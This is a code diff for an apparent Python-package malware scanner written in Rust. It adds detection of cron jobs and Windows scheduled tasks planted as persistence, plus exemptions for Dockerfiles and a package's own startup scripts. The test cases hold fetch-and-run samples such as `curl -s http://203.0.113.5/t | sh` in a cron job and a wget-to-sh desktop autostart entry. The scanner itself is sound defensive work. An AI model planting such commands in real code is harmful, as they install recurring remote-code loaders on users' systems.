@@ -211,6 +211,11 @@ fn check_written_command(checker: &mut Checker, call: &ExprCall, context: ExecCo
     {
         return;
     }
+    // A Dockerfile's `RUN curl … | bash` runs inside the image being built, not on this
+    // machine: writing one is how evaluation harnesses and deploy tools prepare containers.
+    if is_dockerfile(&text) {
+        return;
+    }
     let severity = match context {
         ExecContext::Install | ExecContext::Import => 0.85,
         ExecContext::Runtime => 0.6,
@@ -227,6 +232,56 @@ fn check_written_command(checker: &mut Checker, call: &ExprCall, context: ExecCo
         severity,
         vec!["drop-command"],
     );
+}
+
+/// `CronTab(user=True).new(command=…)` (python-crontab): a job the cron daemon runs again and
+/// again, long after the package is gone. Cron managers schedule what their user asks when
+/// called; a package scheduling a download-and-run command, or anything on install or import,
+/// is planting persistence.
+fn check_cron_job(checker: &mut Checker, call: &ExprCall, context: ExecContext) {
+    let Some(command) = super::keyword(call, "command")
+        .or_else(|| call.arguments.args.first())
+        .and_then(|command| super::partial_command_text(checker, command))
+    else {
+        return;
+    };
+    // A job that reaches a URL every few minutes is a beacon or a loader whatever it runs.
+    let dangerous = super::process_spawn::is_dangerous_command(&command)
+        || super::process_spawn::is_recon_exfiltration(&command)
+        || super::process_spawn::fetches_and_marks_executable(&command)
+        || super::process_spawn::network_tool(&command).is_some()
+        || command.contains("://");
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import if dangerous => 0.85,
+        ExecContext::Install | ExecContext::Import => 0.45,
+        ExecContext::Runtime if dangerous => 0.6,
+        ExecContext::Runtime => 0.05,
+        ExecContext::TestOrDocs => 0.05,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "schedules the cron job `{}` {}",
+            crate::text::shorten(&command, 120),
+            context.phrase()
+        ),
+        severity,
+        vec!["autostart", "cron-job"],
+    );
+}
+
+/// True when `text` reads as a Dockerfile: a `FROM` line and `RUN` instructions.
+fn is_dockerfile(text: &str) -> bool {
+    let instructions = || {
+        text.lines()
+            .map(str::trim_start)
+            .filter(|line| !line.starts_with('#') && !line.is_empty())
+    };
+    instructions()
+        .take(64)
+        .any(|line| line.starts_with("FROM "))
+        && instructions().any(|line| line.starts_with("RUN "))
 }
 
 /// A `.pth` file with an `import` line, or a `sitecustomize.py` / `usercustomize.py`,
@@ -516,6 +571,40 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         check_written_payload(checker, call, context);
         check_startup_hook(checker, call, context);
     }
+    if matches!(
+        qualname,
+        "win32com.client.Dispatch"
+            | "win32com.client.DispatchEx"
+            | "win32com.client.gencache.EnsureDispatch"
+            | "win32com.client.dynamic.Dispatch"
+            | "comtypes.client.CreateObject"
+    ) && args
+        .first()
+        .and_then(|progid| checker.scopes.fold_str(progid))
+        .is_some_and(|progid| progid.eq_ignore_ascii_case("Schedule.Service"))
+    {
+        // The Task Scheduler's COM interface registers tasks without `schtasks`, so no command
+        // line shows what is scheduled or when.
+        checker.report(
+            &RULE,
+            call.range(),
+            format!(
+                "opens the Task Scheduler (Schedule.Service) to register a task {}",
+                context.phrase()
+            ),
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.75,
+                ExecContext::Runtime => 0.2,
+                ExecContext::TestOrDocs => 0.05,
+            },
+            vec!["autostart", "scheduled-task"],
+        );
+        return;
+    }
+    if qualname.starts_with("crontab.CronTab") && qualname.ends_with(".new") {
+        check_cron_job(checker, call, context);
+        return;
+    }
     if matches!(qualname, "os.chmod" | "pathlib.Path().chmod") || qualname.ends_with(".chmod") {
         let Some(mode) = args
             .get(1)
@@ -693,11 +782,33 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             }),
         };
         if let Some((text, target)) = found {
+            // `copy('./startup_script/001-magics.py', '~/.ipython/profile_default/startup/')`:
+            // a Python file of the package's own tree, which is analysed as a file of its own
+            // (what it does at every start is reported there), not a payload kept hidden.
+            let own_script = qualname.starts_with("shutil.copy")
+                && args
+                    .first()
+                    .filter(|source| !std::ptr::eq(*source, arg))
+                    .and_then(|source| checker.fold(source).and_then(|v| v.as_text()))
+                    .is_some_and(|source| {
+                        let relative = !source.starts_with(['/', '\\', '~'])
+                            && !source.contains(':')
+                            && !source.contains("..");
+                        relative && (source.ends_with(".py") || source.ends_with(".ipy"))
+                    });
+            let (severity, own) = if own_script {
+                (
+                    severity.min(0.3),
+                    ", a Python file of the package's own tree",
+                )
+            } else {
+                (severity, "")
+            };
             checker.report(
                 &RULE,
                 call.range(),
                 format!(
-                    "{qualname} touches the autostart location `{}` ({target})",
+                    "{qualname} touches the autostart location `{}` ({target}){own}",
                     crate::text::shorten(&text, 80)
                 ),
                 severity,
@@ -848,6 +959,35 @@ mod tests {
 #[cfg(test)]
 mod written_command_tests {
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn cron_jobs_and_scheduled_tasks_planted_by_the_package_are_persistence() {
+        let cron = "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://203.0.113.5/t | sh').minute.every(5)\ncron.write()\n";
+        assert!(max_severity("p/pkg/__init__.py", cron, "WH150") >= 0.8);
+        let manager = "from crontab import CronTab\ndef schedule(command):\n    cron = CronTab(user=True)\n    cron.new(command=command)\n    cron.write()\n";
+        assert!(max_severity("p/pkg/cli.py", manager, "WH150") < 0.1);
+        let task = "import win32com.client\nscheduler = win32com.client.Dispatch('Schedule.Service')\nscheduler.Connect()\n";
+        assert!(max_severity("p/setup.py", task, "WH150") >= 0.7);
+        let excel =
+            "import win32com.client\nexcel = win32com.client.Dispatch('Excel.Application')\n";
+        assert!(max_severity("p/pkg/__init__.py", excel, "WH150") < 0.1);
+    }
+
+    #[test]
+    fn a_dockerfile_runs_its_commands_in_the_image_not_here() {
+        let docker = "def build(path):\n    with open(path, 'w') as f:\n        f.write('FROM python:3.12\\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\\n')\n";
+        assert!(max_severity("p/pkg/m.py", docker, "WH150") < 0.1);
+        let script = "def build(path):\n    with open(path, 'w') as f:\n        f.write('#!/bin/sh\\ncurl -fsSL https://203.0.113.5/x | bash -\\n')\n";
+        assert!(max_severity("p/pkg/m.py", script, "WH150") >= 0.6);
+    }
+
+    #[test]
+    fn paths_built_by_division_write_like_paths() {
+        let entry = "from pathlib import Path\napps = Path.home() / '.local' / 'share' / 'applications'\n(apps / 'tray.desktop').write_text('[Desktop Entry]\\nExec=sh -c \"wget -qO- http://198.51.100.7/t | sh\"\\n')\n";
+        assert!(max_severity("p/pkg/__init__.py", entry, "WH150") >= 0.8);
+        let notes = "from pathlib import Path\nout = Path('build')\n(out / 'NOTES.txt').write_text('built')\n";
+        assert!(max_severity("p/pkg/__init__.py", notes, "WH150") < 0.1);
+    }
 
     #[test]
     fn dropper_commands_written_to_files_are_reported() {
